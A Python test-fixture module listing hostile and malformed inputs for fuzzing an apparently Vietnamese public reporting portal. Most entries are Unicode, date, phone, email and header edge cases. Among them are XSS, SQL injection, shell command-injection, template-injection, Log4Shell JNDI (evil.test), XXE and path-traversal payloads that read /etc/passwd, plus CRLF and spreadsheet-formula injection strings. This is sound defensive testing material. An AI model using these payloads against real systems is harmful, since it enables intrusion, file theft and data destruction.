"""What people, programs and attackers send that nobody expects. Our own selection; each has a reason to be here."""

import json
from typing import Any

MARKUP = "<hostile>"  # no page may hold this as markup

TEXTS: tuple[str, ...] = (
    # Looks like nothing.
    *(" ", "\t", "\r\n", "\u00a0", "\u200b\u200d\ufeff", "\u3164", "\u2800", "\u3000\u3000", "\u00ad", "\u202e", "\x00", "\x7f\x1b"),
    # Words that programs take for values.
    *("null", "NULL", "None", "nil", "undefined", "NaN", "Infinity", "-Infinity", "true", "false", "[]", "{}", "[object Object]"),
    # Numbers that are none.
    *("0", "-1", "1e309", "0x7f", "1/0", "٣٤٥", "①②③", "９９９", "½", "1_000", "9" * 5000, "-9223372036854775809", "1,5", "NaN%"),
    # Markup and script.
    *(
        f"{MARKUP}<script>alert(1)</script>",
        f'"><svg/onload=alert(1)>{MARKUP}',
        f"'><img src=x onerror=alert(1)>{MARKUP}",
        f"</textarea>{MARKUP}<textarea>",
        f"</title></style></script>{MARKUP}",
        f"<!--{MARKUP}--><![CDATA[{MARKUP}]]>",
        "javascript:alert(1)",
        "&lt;script&gt;&#60;script&#62;&amp;",
        "<a href=//evil.test>x</a>",
    ),
    # Databases, shells, templates, loggers.
    *(
        "'; DROP TABLE report; --",
        "' OR '1'='1",
        '" OR ""="',
        "1 UNION SELECT * FROM staff",
        "%' LIKE '%",
        "\\'; --",
        "$(touch hostile)",
        "`id`",
        "| cat /etc/passwd",
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "{% include 'config.py' %}",
        "%(name)s %s %d %n",
        "{0.__class__}",
        "${jndi:ldap://evil.test/a}",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
        "../../../../etc/passwd",
        "..\\..\\config.py",
        "/dev/zero",
        "file:///etc/passwd",
    ),
    # Lines that end a header, a mail, a file.
    *("a\r\nSet-Cookie: hostile=1", "a\r\n\r\n<hostile>", "a\nBcc: ai@thu.vn", "=cmd|' /C calc'!A0", "@SUM(1+1)", "-----BEGIN", "\x1a", "a\x00b"),
    # Letters.
    *(
        "Nguye\u0302\u0303n Thi\u0323 La\u0300n",
        "T\u0338\u0315\u035d\u0328o\u0335\u0302\u0348i\u0336\u034c" * 30,
        "a" + "\u0316\u0301" * 5_000,
        "\u202eđảo ngược\u202c",
        "ﷺ" * 200,
        "👩‍👩‍👧‍👦🏳️‍🌈🇻🇳" * 20,
        "\U0001f4a9" * 500,
        "𝓗𝓸̂𝓶 𝓺𝓾𝓪",
        "Ｈô̂m ｑｕａ",
        "ʇxǝʇ uʍop ǝpᴉsdn",
        "\ufffd\ufffe\uffff",
        "\U000e0048\U000e0069",
        "\ue000\uf8ff",
        "ÄÃ¢y lÃ  chá»¯ há»ng",
        "T«i kh«ng biÕt",
        "Toâi khoâng bieát",
        "toôi khoông bieết",
        "tooi khoong bieest",
    ),
    # Too much.
    *("a" * 100_000, "đ " * 12_000, "\n" * 5_000 + ".", "x." * 2_000, "(" * 3_000, "@" * 1_000, "0905" * 2_000, "1/" * 2_000),
)  # fmt: skip

DATES: tuple[str, ...] = (
    *("31/02/2026", "30/02/2024", "29/02/2025", "31/04/2025", "00/01/2025", "32/01/2025", "1/13/2025", "0/0/0", "00/00/0000"),
    *("31-06-2025", "2025-02-30", "2025-13-01", "99999999", "31022025", "12/25/2025", "1/1/1999", "1/1/2101", "1/1/9999"),
    *("1/1/99", "1/1/0001", "-1/-1/-1", "1/1/2025 BC", "1//2025", "//", "1/1/1/1", "32", "tháng 13", "ngày 3", "tuần trước"),
    *("hôm nọ", "đầu tháng", "mùng 1 Tết", "rằm tháng bảy âm lịch", "thứ tám", "thứ hai 4/11/2025", "31 tháng 2", "lâu rồi"),
    *("2025-11-03T25:61:61Z", "1762128000", "P1Y", "NOW()", "tomorrow never", "3rd", "Feb 30", "9/99/9999999999", "1e1/1e1/2025"),
)  # fmt: skip
PHONES: tuple[str, ...] = (
    *("113", "0905", "090512345", "09051234567", "0105123456", "+1 202 555 0100", "+84", "00840", "0905 123 45x", "0905-123-45#"),
    *("số của tôi", "0905123456 hoặc 0905123457", "1900 1234", "0000000000", "+84 905 123 4567", "tel:", "(((((((((("),
)  # fmt: skip
EMAILS: tuple[str, ...] = (
    *("lan", "@", "lan@", "@thu.vn", "lan@thu", "lan@@thu.vn", "lan@thu..vn", "lan@-thu.vn", "lan thu@thu.vn", "lan@thu_vn"),
    *("nguyễn@thu.vn", "lan@thu.vn, minh@thu.vn", "lan@[127.0.0.1]", '"lan"@thu.vn@', "lan@thu.vn\nBcc: ai@thu.vn", "lan@gmail,com"),
    *("l" * 65 + "@thu.vn", "lan@" + "t" * 250 + ".vn", "lan@thư.vn", "lan@thu.v", "lan;ls@thu.vn"),
)  # fmt: skip
TAX_CODES: tuple[str, ...] = (
    *("0100109107", "123", "01001091060", "0100109106-01", "0100109106-0001", "010010910X", "0000000000000000", "MST"),
    *("-0100109106x", "0100109106/2", "12345678901234567890"),
)  # fmt: skip
DOSSIERS: tuple[str, ...] = (
    "không có số",
    "H47",
    "17; DROP",
    "1" * 81,
    "17<18",
    "17%00",
    "17\u2400",
    "🐟17",
    "17\\18",
    "17?x=1",
    "mã hồ sơ",
)
WORDS: tuple[str, ...] = (
    "",
    "nothing",
    "0",
    "anonymous'--",
    "YES",
    "officer officer",
    "../",
    "\x00",
    "null",
    "đ" * 500,
)

# Bytes that are no UTF-8, as they stand in an address or a form.
BROKEN = (
    *("%ff", "%c3%28", "%e2%82", "%f0%9f%92", "%ed%a0%80", "%c0%af", "%f8%88%80%80%80", "%00%ff", "%e1%bb", "%80", "%zz", "%", "%u0110"),
)  # fmt: skip

TINY = json.dumps({"narrative": "Việc."})
PATHS = (
    *("/%ff", "/report/%00", "/report/%c0%ae%c0%ae/", "/report/../../config.py", "/report/" + "a" * 5_000, "//evil.test/report"),
    *("/report/happened/%0d%0aSet-Cookie:hostile=1", "/static/../config.py", "/static/%2e%2e/config.py", "/static/%00", "/static/%ff.css"),
    *("/REPORT", "/report;x=1", "/report%3f", "/api/v1/reports/%ff", "/staff/cases/%00", "/staff/cases/%ff", "/open-data/%ff", "/%e1%bb"),
    *("/report?draft=%ff", "/report?draft=" + "a" * 5_000, "/report?draft=%00", "/report/happened?draft=%ed%a0%80", "/report?agency=%ff%00"),
    *("/report?lang=%ff", "/report?lang=en&lang=vi&lang=%00", "/report?" + "a=1&" * 5_000, "/report?draft[]=1", "/report?%ff=%ff"),
    *("/report/check?draft=%00", "/report/receipt?draft=%ff", "/report/about?draft=../..", "/track?x=%00", "/help?lang=%c3%28"),
    *("/api/v1/agencies?after=%00", "/api/v1/agencies?after=%ff", "/staff/sign-in?next=%ff", "/staff/sign-in?next=//evil.test"),
    *("/staff/sign-in?next=/staff/%0d%0aSet-Cookie:hostile=1", "/staff/queue?after=%ff", "/healthz?%00"),
)  # fmt: skip
HEADERS: tuple[dict[str, str], ...] = (
    *({"Accept-Language": value} for value in ("", "*", "xx;q=abc", "vi;q=-1," * 500, "\xff", "en" * 2_000)),
    *({"Accept-Encoding": value} for value in ("gzip;q=abc", "gzip;q=9e999", "*;q=0", ",,,", "\xff")),
    *({"Accept": value} for value in ("", "a/b;q=x", "*/*;" * 500)),
    *({"Host": value} for value in ("", "\xff", "a" * 5_000, "portal.test:abc", "[::1", "../")),
    *({"If-None-Match": value} for value in ('"', "\xff", "W/" * 500)),
    *({"If-Modified-Since": value} for value in ("yesterday", "Thu, 99 Foo 99999 99:99:99 GMT", "\xff")),
    *({"Range": value} for value in ("bytes=abc", "bytes=9-1", "bytes=0-0,1-1," * 100)),
    *({"X-Forwarded-For": value, "X-Forwarded-Proto": value, "X-Forwarded-Host": value} for value in ("hostile", "\xff", ",")),
    *({"Sec-Fetch-Site": value} for value in ("", "hostile", "\xff")),
    *({"Content-Length": value} for value in ("-1", "abc", "")),
    *({"Referer": value, "Origin": value, "User-Agent": value} for value in ("\xff", "a" * 5_000, "null")),
    {"X-HTTP-Method-Override": "DELETE"},
    {"Idempotency-Key": "\xff" * 30},
)  # fmt: skip
COOKIES = (
    *("x", "%00", "\xff", "AAAA", "=" * 44, "A" * 43 + "=", "A" * 5_000, ".eJw", "e30.e30.e30", '"\\000"', "../..", "a;b", "{}", "null"),
    "gAAAA" * 300,
)  # fmt: skip


WRONG_TYPES: tuple[Any, ...] = (5, -0.5, True, [], ["a"], {}, {"a": {}}, [[[]]], 10**300)
NO_OBJECTS = (
    *(b"", b"{", b"[]", b"null", b"5", b'"a"', b"\xff\xfe", b"[" * 100_000, b'{"a":' * 20_000, b'{"narrative": "\xff"}'),
    *(b'{"narrative": ' + b"9" * 5_000 + b"}", b'{"a": NaN, "b": -Infinity, "c": 1e999}', b"\xef\xbb\xbf{}", b'{"a": 1}{"b": 2}'),
    *(b'{"narrative": "\\ud800"}', TINY.encode("utf-16"), TINY.encode("utf-32"), b'{"narrative": "a", "narrative": 5}'),
    *(b'{"' + b"k" * 100_000 + b'": 1}', json.dumps({f"f{number}": number for number in range(10_000)}).encode()),
)  # fmt: skip
